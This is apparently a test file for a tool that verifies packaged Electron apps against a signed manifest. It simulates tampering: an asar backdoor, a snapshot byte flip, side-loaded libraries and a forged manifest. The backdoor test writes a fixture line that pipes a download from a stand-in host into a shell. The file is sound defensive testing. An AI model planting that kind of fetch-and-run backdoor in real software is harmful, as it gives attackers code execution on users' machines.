// The attacks on packaged Electron apps, reproduced as file operations on a packaged-app folder, each
// checked against a manifest signed at "packaging": every one gives its finding, an untouched app none.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { createPackage } from '@electron/asar';
import { m, keys, APP, flipByte, tmpdir } from './helpers.mjs';
import { makePackagedApp } from './app-fixture.mjs';

const k = await keys();

/** A packaged app with its signed manifest; `check()` loads the manifest (signature first) and verifies. */
async function signedApp() {
  const app = await makePackagedApp();
  const r = await m.createManifest(app.dir, { secretKey: k.secretKey, app: APP });
  const check = async () => {
    const { manifest } = await m.loadSigned(r.manifestPath, k.pubKey);
    return m.verifyApp(app.dir, manifest);
  };
  return { ...app, ...r, check };
}

test('an untouched packaged app has no differences', async () => {
  const app = await signedApp();
  const r = await app.check();
  assert.deepEqual(r.differences, []);
  const kinds = new Set(app.manifest.files.map((f) => f.kind));
  for (const kind of ['elf', 'asar', 'v8-snapshot', 'pak']) assert.ok(kinds.has(kind), `the fixture has a ${kind} file`);
});

test('replacing app.asar (Loki-style backdoor, real signed executable kept) is file-differs-from-manifest', async () => {
  const app = await signedApp();
  fs.writeFileSync(path.join(app.src, 'main.js'), "require('child_process').exec('curl evil | sh');\n");
  await createPackage(app.src, path.join(app.resources, 'app.asar'));
  const r = await app.check();
  assert.deepEqual(r.differences.map((d) => [d.kind, d.path]), [['file-differs-from-manifest', 'resources/app.asar']], JSON.stringify(r.differences));
});

test('one byte changed in v8_context_snapshot.bin (CVE-2025-55305) is file-differs-from-manifest', async () => {
  const app = await signedApp();
  flipByte(path.join(app.dir, 'v8_context_snapshot.bin'), 77777);
  const r = await app.check();
  assert.equal(r.differences.length, 1, JSON.stringify(r.differences));
  assert.deepEqual([r.differences[0].kind, r.differences[0].path, r.differences[0].reason], ['file-differs-from-manifest', 'v8_context_snapshot.bin', 'content']);
});

test('a .so, a .node and a version.dll dropped into the app folder are file-not-in-manifest (side-loading)', async () => {
  const app = await signedApp();
  fs.copyFileSync(path.join(app.dir, 'libffmpeg.so'), path.join(app.dir, 'libevil.so'));
  fs.copyFileSync(app.unpackedNode, path.join(app.resources, 'app.asar.unpacked', 'native', 'extra.node'));
  fs.writeFileSync(path.join(app.dir, 'version.dll'), Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]));
  fs.writeFileSync(path.join(app.dir, 'crash.log'), 'data written by the app is not code');
  const r = await app.check();
  assert.deepEqual(
    r.differences.map((d) => [d.kind, d.path]).sort(),
    [['file-not-in-manifest', 'libevil.so'], ['file-not-in-manifest', 'resources/app.asar.unpacked/native/extra.node'], ['file-not-in-manifest', 'version.dll']],
  );
});

test('a changed .node in app.asar.unpacked is located to its code', async () => {
  const app = await signedApp();
  const entry = app.manifest.files.find((f) => f.path === 'resources/app.asar.unpacked/native/addon.node');
  const code = entry.code[0];
  flipByte(app.unpackedNode, code.offset + 3 * 65536 + 5);
  const r = await app.check();
  assert.equal(r.differences.length, 1, JSON.stringify(r.differences));
  const d = r.differences[0];
  assert.equal(d.path, 'resources/app.asar.unpacked/native/addon.node');
  assert.deepEqual(d.code, [{ offset: code.offset + 3 * 65536, size: 65536 }], 'the 64 KiB run holding the changed byte');
});

test('a replaced manifest (signed with another key) and a flipped signature byte are manifest-invalid', async () => {
  const app = await signedApp();
  // The attacker re-makes the manifest after the change, with a key of their own.
  flipByte(path.join(app.dir, 'snapshot_blob.bin'), 10);
  const evil = await keys(tmpdir('pg-evil-keys-'));
  await m.createManifest(app.dir, { secretKey: evil.secretKey, app: APP });
  await assert.rejects(app.check(), (e) => e.code === 'ERR_MANIFEST_INVALID' && e.reason === 'bad-signature', 'a manifest by another key');

  const app2 = await signedApp();
  const sig = Buffer.from(fs.readFileSync(app2.signaturePath, 'utf8').trim(), 'base64');
  sig[31] ^= 0x01;
  fs.writeFileSync(app2.signaturePath, sig.toString('base64') + '\n');
  await assert.rejects(app2.check(), (e) => e.code === 'ERR_MANIFEST_INVALID' && e.reason === 'bad-signature', 'one flipped signature byte');
});
